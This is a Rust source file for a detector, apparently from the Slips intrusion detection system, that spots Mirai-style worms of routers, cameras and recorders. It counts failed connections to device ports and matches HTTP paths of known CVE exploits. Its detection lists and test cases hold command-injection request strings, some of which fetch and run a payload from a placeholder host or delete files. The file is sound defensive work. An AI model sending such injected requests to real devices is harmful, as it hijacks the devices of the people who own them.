//! Worms of routers, cameras and recorders (`DEVICE_WORM`), as Mirai's descendants spread.

use slips_core::detector::{Closing, Cx, Detector, Header, Role, Slot, Spec, Threshold, Unit};
use slips_core::event::{Event, EventKind, Http};
use slips_core::evidence::{Entity, EvidenceKind, Finding, ThreatLevel};
use slips_core::flow::{Flow, Proto};
use slips_core::state::Windowed;
use slips_core::time::{Span, WindowId};

use crate::ladder::{self, Ladder, Told, rung};
use crate::steps::member_of_ip;
use crate::tally::{Distinct, Pace, Trail};
use crate::{Settings, attempt, web};

/// The registry's entry.
pub static SPEC: Spec = Spec {
    name: "device_worm",
    kinds: &[EvidenceKind::DeviceWorm],
    events: &[EventKind::Flow, EventKind::Http],
    roles: &[Role::Src],
    thresholds: &[SEARCHED, EXPLOITED],
    header: Header {
        detects: "Worms of routers, cameras and recorders (`DEVICE_WORM`), as Mirai's descendants spread.",
        attack: "T1190 Exploit Public-Facing Application, T1210 Exploitation of Remote Services, T1110.001 Password \
            Guessing, T1584.008 Network Devices.",
        rule: "Search: distinct pairs of outside host and port at which a host of ours failed within five to ten \
            minutes, over at least two of the ports at which nothing but such devices listens (telnet, Android's \
            debugger, TR-069, UPnP of several makers …); a single port is for `horizontal_scan`. Rule, exploits: \
            requests over HTTP that only the exploits of such devices send, or that fetch and run a program in a \
            parameter, to distinct servers.",
        numbers: "Mirai's descendants try 100 to 1,000 hosts a second, the slowest some a second; 200 pairs \
            are critical. An exploit is high: a page can make a browser send it, to as many servers as it likes.",
        quiet: "The requests are whole paths with their parameter; owners' management does not go to many hosts \
            outside. Searching inwards is for the other scans.",
        evasion: "New exploits; TLS; searching slowly.",
        proof: "Exploits of strangers proven, a request over TCP. Of our own hosts never, since any page can have them sent; their \
            search by the hardware address, if five attempts are such as no web page can cause (see vertical_port_scan).",
    },
};

/// Steps in pairs of host and port at which a search failed within five to ten minutes.
pub const SEARCHED: Threshold = Threshold::steps(
    "searched",
    "pairs of host and port at which a search fails within five to ten minutes",
    Unit::Count,
    &[
        rung(15, ThreatLevel::Medium, 0.7),
        rung(25, ThreatLevel::High, 0.8),
        rung(200, ThreatLevel::Critical, 0.95),
    ],
);
/// Steps in servers at which exploits were tried.
pub const EXPLOITED: Threshold = Threshold::steps(
    "exploited",
    "servers at which one host tries exploits of devices in a window",
    Unit::Count,
    &[rung(1, ThreatLevel::High, 0.8), rung(3, ThreatLevel::High, 0.9)],
);

const MINUTES: Span = Span::from_secs(300);
/// Telnet, Android's debugger, TR-069, UPnP and management of devices.
const PORTS: [u16; 13] = [23, 26, 2323, 5555, 5358, 6789, 7547, 9527, 34_567, 37_215, 49_152, 52_869, 60_001];
/// Ports that must be among them.
const LEAST_PORTS: u32 = 2;

/// A part of a request's path, and another one that must be there too; lower case.
const EXPLOITS: [(&str, &str); 20] = [
    // CVE-2018-10561, -10562 GPON routers
    ("/gponform/diag_form", ""),
    // CVE-2017-17215 Huawei HG532
    ("/ctrlt/deviceupgrade", ""),
    // CVE-2014-8361 Realtek's UPnP
    ("/picsdesc.xml", ""),
    ("/wanipcn.xml", ""),
    // CVE-2016-10372 TR-064
    ("/ud/act?1", ""),
    // Netgear DGN1000 and others
    ("/setup.cgi?next_file=", "syscmd"),
    ("/setup.cgi?next_file=", "cmd="),
    // JAWS and other recorders
    ("/shell?", "wget"),
    ("/shell?", "cd+/tmp"),
    ("/shell?", "/tmp"),
    // CVE-2018-20062 ThinkPHP, used by all of them
    ("invokefunction", "call_user_func_array"),
    // CVE-2020-8515 DrayTek
    ("/cgi-bin/mainfunction.cgi", "action=login"),
    // CVE-2019-16920, CVE-2020-25506 D-Link
    ("/apply_sec.cgi", "ping_test"),
    ("/cgi-bin/system_mgr.cgi", "cmd="),
    // CVE-2023-1389 TP-Link Archer
    ("/cgi-bin/luci/;stok=/locale", "country="),
    // CVE-2021-20090 Arcadyan and others
    ("/images/..%2f", "apply_abstract"),
    // CVE-2024-3721 TBK recorders
    ("/device.rsp?opt=sys&cmd=___s_o_s_t_r_e_a_max___", ""),
    // CVE-2021-36260 Hikvision
    ("/sdk/weblanguage", ""),
    // CVE-2016-6277 Netgear
    ("/cgi-bin/;", "/tmp"),
    ("/cgi-bin/;", "wget"),
];
/// Commands that fetch a program in a parameter, lower case: one of the first kind and one of the second.
const FETCHES: [&str; 6] = ["wget+", "wget%20", "wget${ifs}", "curl+", "curl%20", "tftp+"];
const RUNS: [&str; 5] = ["/tmp/", "chmod+", "|sh", "|+sh", "%7csh"];

#[derive(Debug, Default)]
struct Worm {
    pairs: Distinct<u64>,
    ports: Distinct<u16>,
    pace: Pace,
    /// A forwarded packet may be seen on its way out first: then a later event of its flow tells whose frame it was.
    proven: Distinct<u64>,
    /// How many of these no page can have caused.
    own: u32,
    searched: Told,
    servers: Distinct<u64>,
    exploited: Told,
    trail: Trail,
}

/// See the module.
#[derive(Debug)]
pub struct DeviceWorm {
    searched: Ladder,
    exploited: Ladder,
    worms: Windowed<Worm>,
}

/// Whether `text` contains `lower`, in any letter case.
fn contains(text: &str, lower: &str) -> bool {
    lower.is_empty()
        || text.as_bytes().windows(lower.len()).any(|part| part.eq_ignore_ascii_case(lower.as_bytes()))
}

/// Whether a request is one that only exploits of devices send. Between our own hosts a path alone is none: programs of ours may manage
/// their devices and routers by it.
fn is_exploit(uri: &str, is_inside: bool) -> bool {
    let known =
        !is_inside && EXPLOITS.iter().any(|(path, other)| contains(uri, path) && contains(uri, other));
    let fetches =
        || FETCHES.iter().any(|word| contains(uri, word)) && RUNS.iter().any(|word| contains(uri, word));
    known || fetches()
}

impl DeviceWorm {
    /// With these settings.
    pub fn new(settings: &Settings) -> Self {
        Self {
            searched: settings.ladder(&SPEC, &SEARCHED),
            exploited: settings.ladder(&SPEC, &EXPLOITED),
            worms: Windowed::default(),
        }
    }

    fn on_flow(&mut self, cx: &mut Cx<'_>, flow: &Flow) {
        let worm = self.worms.get_or_default(cx.slot(), cx.window());
        let pair = member_of_ip(flow.dst.addr).rotate_left(16) ^ u64::from(flow.dst.port);
        let new = worm.pairs.insert(pair);
        let proven = attempt::is_proven(flow, cx.facts()) && worm.proven.insert(pair);
        worm.own += u32::from(proven && attempt::is_own(flow, cx.facts()));
        if !new && !proven {
            return;
        }
        if new {
            worm.ports.insert(flow.dst.port);
            worm.pace.add(flow.start, 1, MINUTES);
        }
        worm.trail.push(flow.uid);
        if worm.ports.len() < LEAST_PORTS {
            return;
        }
        let pairs = worm.pace.sum();
        let step = self.searched.step(pairs).max(worm.searched.step());
        let proven = worm.proven.len();
        let enough = proven >= pairs.min(worm.pairs.len()) && web::is_a_program(proven, worm.own);
        let proof = attempt::proof_if(enough);
        let Some(rung) = worm.searched.climb(&self.searched, step, proof, u32::from(new), flow.start) else {
            return;
        };
        let text = format!(
            "a worm of devices searches: {} hosts and ports failed, {} different ports, lately {}",
            worm.pairs.len(),
            worm.ports.len(),
            flow.dst
        );
        let uids = worm.trail.take();
        cx.emit(Finding {
            proto: Some(Proto::Tcp),
            text,
            uids,
            proof,
            ..ladder::finding(cx, EvidenceKind::DeviceWorm, flow.src.addr, rung, flow.seen)
        });
    }

    fn on_http(&mut self, cx: &mut Cx<'_>, http: &Http) {
        let about = &http.about;
        let worm = self.worms.get_or_default(cx.slot(), cx.window());
        worm.servers.insert(member_of_ip(about.dst.addr));
        worm.trail.push(about.uid);
        let step = self.exploited.step(worm.servers.len());
        let proof = web::proof_of_client(cx.facts());
        let Some(rung) = worm.exploited.climb(&self.exploited, step, proof, 1, about.at) else {
            return;
        };
        let shown: String = http.uri.chars().take(120).collect();
        let text = format!(
            "an exploit of devices at {} servers, lately {}: `{shown}`",
            worm.servers.len(),
            about.dst
        );
        let uids = worm.trail.take();
        cx.emit(Finding {
            // Of its own identity beside the search.
            victim: Some(Entity::Domain("devices".into())),
            proto: Some(Proto::Tcp),
            text,
            uids,
            proof,
            ..ladder::finding(cx, EvidenceKind::DeviceWorm, about.src.addr, rung, about.at)
        });
    }
}

impl Detector for DeviceWorm {
    fn spec(&self) -> &'static Spec {
        &SPEC
    }

    fn on_event(&mut self, cx: &mut Cx<'_>, event: &Event) {
        match event {
            Event::Flow(flow)
                if flow.proto == Proto::Tcp
                    && PORTS.contains(&flow.dst.port)
                    && cx.facts().src_local
                    && !cx.facts().dst_local
                    && attempt::failed(flow)
                    && attempt::between_hosts(flow)
                    && !flow.was_flipped() =>
            {
                self.on_flow(cx, flow);
            }
            Event::Http(http) if is_exploit(&http.uri, cx.facts().src_local && cx.facts().dst_local) => {
                self.on_http(cx, http);
            }
            _ => {}
        }
    }

    fn on_window_close(&mut self, _out: &mut Closing<'_>, window: WindowId) {
        self.worms.close(window, |_, _| {});
    }

    fn forget(&mut self, slot: Slot) {
        self.worms.forget(slot);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_traces::{Talk, at, bench, http, levels};
    use slips_core::detector::Facts;
    use slips_core::evidence::Proof;
    use slips_core::flow::Phase;

    fn searched(hosts: u8, ports: &[u16], gap: i64, src: &str) -> Vec<Finding> {
        let mut bench = bench(DeviceWorm::new(&Settings::default()));
        (0..hosts)
            .flat_map(|n| {
                let port = ports[usize::from(n) % ports.len()];
                let talk = Talk::tcp(src, &format!("203.0.113.{n}"), port).at(i64::from(n) * gap);
                bench.feed(&talk.uid(&format!("C{n}")).event())
            })
            .collect()
    }

    #[test]
    fn a_search_over_two_ports_climbs_to_critical() {
        let told = searched(240, &[23, 2323], 1, "192.168.1.66");
        assert_eq!(levels(&told), ["medium 0.7", "high 0.8", "critical 0.95"]);
        assert_eq!(told[0].attacker, Entity::Ip(at("192.168.1.66")));
        assert!(searched(14, &[23, 2323], 1, "192.168.1.66").is_empty());
    }

    #[test]
    fn one_port_slow_searches_strangers_and_other_ports_are_silent() {
        assert!(searched(200, &[23], 1, "192.168.1.66").is_empty());
        assert!(searched(200, &[443, 8080], 1, "192.168.1.66").is_empty());
        assert!(searched(200, &[23, 2323], 60, "192.168.1.66").is_empty());
        assert!(searched(200, &[23, 2323], 1, "198.51.100.9").is_empty());
    }

    fn asked(servers: u8, uri: &str) -> Vec<Finding> {
        let mut bench = bench(DeviceWorm::new(&Settings::default()));
        let request = |n| Event::Http(Box::new(http(&format!("203.0.113.{n}"), "", uri, i64::from(n))));
        (0..servers).flat_map(|n| bench.feed(&request(n))).collect()
    }

    #[test]
    fn exploits_are_high_at_once_and_never_critical_since_a_page_can_send_them() {
        for uri in [
            "/GponForm/diag_Form?images/",
            "/ctrlt/DeviceUpgrade_1",
            "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*",
            "/x?y=;wget%20http://203.0.113.9/a%20-O%20/tmp/a",
        ] {
            assert_eq!(levels(&asked(1, uri)), ["high 0.8"], "{uri}");
            assert_eq!(levels(&asked(5, uri)), ["high 0.8", "high 0.9"], "{uri}");
        }
    }

    #[test]
    fn own_devices_may_be_managed_and_still_not_be_made_to_fetch_programs() {
        let asked = |uri: &str| {
            let mut bench = bench(DeviceWorm::new(&Settings::default()));
            let request = |n: u8| Event::Http(Box::new(http(&format!("192.168.1.{n}"), "", uri, 0)));
            (1..9).flat_map(|n| bench.feed(&request(n))).count()
        };
        assert_eq!(asked("/wanipcn.xml"), 0);
        assert_eq!(asked("/x?y=;wget%20http://203.0.113.9/a%20-O%20/tmp/a"), 2);
    }

    #[test]
    fn ordinary_requests_are_silent() {
        for uri in
            ["/", "/shell", "/wget+manual.html", "/search?q=wget+chmod", "/setup.cgi", "/cgi-bin/luci/"]
        {
            assert!(asked(5, uri).is_empty(), "{uri}");
        }
    }

    #[test]
    fn later_events_of_the_same_flows_prove_a_search() {
        let mut bench = bench(DeviceWorm::new(&Settings::default()));
        let mut told = Vec::new();
        for (phase, src_on_link) in [(Phase::Unanswered, false), (Phase::End, true)] {
            bench.facts(Facts { src_on_link, src_local: true, ..Facts::default() });
            for n in 0..240u8 {
                let port = [23, 2323][usize::from(n) % 2];
                let talk = Talk::tcp("192.168.1.66", &format!("203.0.113.{n}"), port).at(i64::from(n));
                told.extend(bench.feed(&talk.phase(phase).uid(&format!("C{n}")).event()));
            }
        }
        let proofs: Vec<bool> = told.iter().map(|told| told.proof == Proof::Proven).collect();
        assert_eq!(proofs, [false, false, false, true]);
    }

    #[test]
    fn a_search_that_a_page_can_cause_proves_nothing() {
        let proofs = |ports: [u16; 2]| {
            let mut bench = bench(DeviceWorm::new(&Settings::default()));
            bench.facts(Facts { src_on_link: true, src_local: true, ..Facts::default() });
            let attempt = |n: u8| {
                let port = ports[usize::from(n) % 2];
                let talk = Talk::tcp("192.168.1.66", &format!("203.0.113.{n}"), port).at(i64::from(n));
                talk.phase(Phase::Unanswered).uid(&format!("C{n}")).event()
            };
            (0..240u8).flat_map(|n| bench.feed(&attempt(n))).map(|told| told.proof).collect::<Vec<_>>()
        };
        assert_eq!(proofs([5555, 7547]), [Proof::Unproven; 3]);
        assert_eq!(proofs([23, 2323]), [Proof::Proven; 3]);
    }
}
